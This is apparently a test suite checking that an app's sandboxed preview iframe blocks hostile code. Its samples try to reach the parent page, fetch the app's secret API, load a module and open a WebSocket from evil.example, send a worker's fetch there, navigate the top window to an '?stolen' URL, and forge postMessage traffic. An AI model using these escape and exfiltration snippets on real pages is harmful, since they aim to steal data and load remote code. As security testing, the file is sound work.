import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { HOW_TO_ENABLE, hasChromium, startBench, type Bench, type Studio } from './testing/bench.ts';

/** Expressions a hostile page may try; each must end in an error or in nothing. */
const ATTEMPTS: Readonly<Record<string, string>> = {
  'parent document': 'parent.document.title',
  'top document': 'top.document.title',
  'parent location': 'parent.location.href',
  'parent engine': 'parent.engine',
  'frame element': 'frameElement.src',
  'fetch of the app':
    "(await fetch(location.origin === 'null' ? '/api/secret' : '/api/secret')).status === 404 ? 'only our own 404' : 'answered'",
  'real fetch of the app':
    "await (document.body.appendChild(document.createElement('iframe')).contentWindow.fetch)(document.URL.replace(/\\/$/, '') + '/api/secret')",
  'request by XMLHttpRequest':
    "await new Promise((y, n) => { const x = new XMLHttpRequest(); x.open('GET', document.URL + 'api/x'); x.onload = () => y('sent'); x.onerror = () => n(Error('refused')); x.send() })",
  'WebSocket outside':
    "await new Promise((y, n) => { const s = new WebSocket('wss://evil.example'); s.onopen = () => y('open'); s.onerror = () => n(Error('refused')) })",
  'module from outside': "await import('https://evil.example/x.js')",
  'worker that fetches':
    "await new Promise((y, n) => { const w = new Worker(URL.createObjectURL(new Blob([`fetch('https://evil.example').then(() => postMessage('sent'), () => postMessage(0))`]))); w.onmessage = (e) => e.data ? y(e.data) : n(Error('refused')); w.onerror = () => n(Error('refused')) })",
  'service worker': "await navigator.serviceWorker.register('/x.js')",
  'peer connection': 'new RTCPeerConnection()',
  popup: "window.open('https://evil.example').closed",
  database:
    "await new Promise((y, n) => { const r = indexedDB.open('x'); r.onsuccess = () => y('open'); r.onerror = () => n(r.error) })",
  camera: 'await navigator.mediaDevices.getUserMedia({ video: true })',
};

describe.skipIf(!hasChromium)(`the isolation of a preview${HOW_TO_ENABLE}`, () => {
  let bench: Bench;
  let studio: Studio;
  beforeAll(async () => {
    bench = await startBench();
  });
  afterAll(() => bench.close());
  beforeEach(async () => {
    studio = await bench.open();
  });
  afterEach(() => studio.close());

  it('lets hostile code reach nothing and send nothing', async () => {
    const body = Object.entries(ATTEMPTS).map(
      ([name, code]) =>
        `try { out[${JSON.stringify(name)}] = String(await (async () => ${code})()) } catch (e) { out[${JSON.stringify(name)}] = 'refused' }`,
    );
    await studio.run('a', {
      'index.html': `<!doctype html><body><script>(async () => { const out = {}; ${body.join('\n')}; window.out = out; })()</script>`,
    });
    const sheet = await studio.sheet();
    await sheet.waitForFunction(() => (window as unknown as { out?: object }).out, undefined, {
      timeout: 8000,
    });
    const out = await sheet.evaluate(() => (window as unknown as { out: Record<string, string> }).out);
    expect(out).toEqual({
      ...Object.fromEntries(Object.keys(ATTEMPTS).map((name) => [name, 'refused'])),
      'fetch of the app': 'only our own 404',
    });
    expect(studio.outside).toEqual([]);
    expect(bench.server.strays).toEqual([]);
  });

  it('has an opaque origin, no cookies and storage of its own that lives in memory', async () => {
    await studio.run('a', {
      'index.html':
        '<!doctype html><script>localStorage.theme = "dark"; localStorage.setItem("a", 1); sessionStorage.b = 2; document.cookie = "mine=1; path=/"</script>',
    });
    const seen = await (
      await studio.sheet()
    ).evaluate(() => ({
      origin,
      cookie: document.cookie,
      keys: Object.keys(localStorage),
      theme: localStorage.getItem('theme'),
      length: localStorage.length,
      b: sessionStorage.b as string,
    }));
    expect(seen).toEqual({
      origin: 'null',
      cookie: 'mine=1',
      keys: ['theme', 'a'],
      theme: 'dark',
      length: 2,
      b: '2',
    });
    expect((await studio.page.context().cookies()).map((cookie) => cookie.name)).toEqual(['secret']);
  });

  it('cannot navigate the app away, nor itself to another host', async () => {
    const url = studio.page.url();
    await studio.run('a', {
      'index.html': `<!doctype html><p>Stay</p><a id="top" href="https://evil.example/" target="_top">top</a><form id="form" action="https://evil.example/" target="_top"><button>send</button></form><form id="self" action="https://evil.example/"></form>
<script>try { top.location = 'https://evil.example/' } catch {} try { parent.location.replace('https://evil.example/') } catch {}</script>`,
    });
    const sheet = await studio.sheet();
    await sheet.click('#top');
    await sheet.click('button');
    await sheet.evaluate(() => {
      for (const form of document.forms) form.submit();
      document.title = 'marked';
    });
    await expect.poll(async () => (await studio.snapshot()).blocked.length).toBeGreaterThan(0);
    expect(await sheet.title()).toBe('marked');
    expect(studio.page.url()).toBe(url);
    expect(await studio.text()).toContain('Stay');
    await sheet.evaluate(() => void setTimeout(() => (location.href = 'https://evil.example/?stolen')));
    await studio.page.waitForTimeout(1500);
    await expect.poll(() => studio.text().catch(() => ''), { timeout: 8000 }).toContain('Stay');
    expect(studio.outside).toEqual([]);
  });

  it('believes no message that a page forges', async () => {
    await studio.run('a', {
      'index.html': `<!doctype html><p>x</p><script>
for (const m of ['studio-preview-hello', { t: 'settled', run: 1 }, { t: 'failure', run: 1, failure: { kind: 'build', message: 'forged' } }]) setTimeout(() => {}, 0), parent.postMessage(typeof m === 'string' ? 'x' : m, '*');
MessagePort.prototype.postMessage = function () { window.stolen = true };
addEventListener('message', (e) => { window.stolen = window.stolen || e.ports.length > 0 }); console.log('hello')</script>`,
    });
    const snapshot = await studio.snapshot();
    expect(snapshot).toMatchObject({ phase: 'ready', failure: null });
    expect(
      await (await studio.sheet()).evaluate(() => (window as unknown as { stolen?: boolean }).stolen),
    ).toBeUndefined();
  });

  it('does nothing when the frame page is opened by itself', async () => {
    const page = await bench.browser.newPage();
    await page.goto(`${bench.server.url}/preview/frame#run/frame-AAAA.js`);
    expect(await page.evaluate(() => [origin, document.scripts.length])).toEqual(['null', 1]);
    await page.close();
  });
});
